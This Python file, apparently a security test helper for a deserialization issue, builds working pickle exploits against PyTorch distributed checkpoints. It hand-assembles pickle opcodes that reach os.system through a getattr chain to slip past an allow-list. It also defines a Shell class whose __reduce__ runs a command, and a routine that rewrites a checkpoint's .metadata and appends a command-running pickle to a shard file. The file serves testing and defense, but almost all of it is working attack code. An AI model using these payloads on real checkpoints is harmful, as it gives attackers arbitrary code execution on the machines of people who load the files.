"""Crafted .metadata payloads of issue 23: os.system reached through getattr, and a byte record DCP would unpickle."""
import copy
import pickle

from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex


def S(text):  # SHORT_BINUNICODE
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def G(module, name):  # STACK_GLOBAL
    return S(module) + S(name) + b"\x93"


def CALL(func, *args):  # func(*args) through REDUCE
    return func + b"(" + b"".join(args) + b"t" + b"R"


def P(body):
    return b"\x80\x04" + body + b"."


def getattr_chain(cmd):
    """os.system(cmd) reached only through getattr and a class the old allow-list had (PosixPath)."""
    ga = G("builtins", "getattr")
    glob = CALL(ga, CALL(ga, G("pathlib", "PosixPath"), S("exists")), S("__globals__"))
    os_mod = CALL(CALL(ga, glob, S("get")), S("os"))
    return P(CALL(CALL(ga, os_mod, S("system")), S(cmd)))


class Shell:
    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        import os
        return os.system, (self.cmd,)


def byte_record(step_dir, md, cmd):
    """Rewrite step_dir's .metadata so an optimizer record is a byte item whose bytes (appended to
    __0_0.distcp) are a pickle running `cmd`: what DCP reads with torch.load(weights_only=False)."""
    md = copy.deepcopy(md)
    key = next(k for k in md.state_dict_metadata if k.startswith("optim/"))
    md.state_dict_metadata[key] = BytesStorageMetadata()
    md.storage_data = {i: s for i, s in md.storage_data.items() if i.fqn != key}
    shard = step_dir / "__0_0.distcp"
    offset, blob = shard.stat().st_size, pickle.dumps(Shell(cmd))
    with open(shard, "ab") as f:
        f.write(blob)
    md.storage_data[MetadataIndex(key)] = _StorageInfo("__0_0.distcp", offset, len(blob))
    (step_dir / ".metadata").write_bytes(pickle.dumps(md))
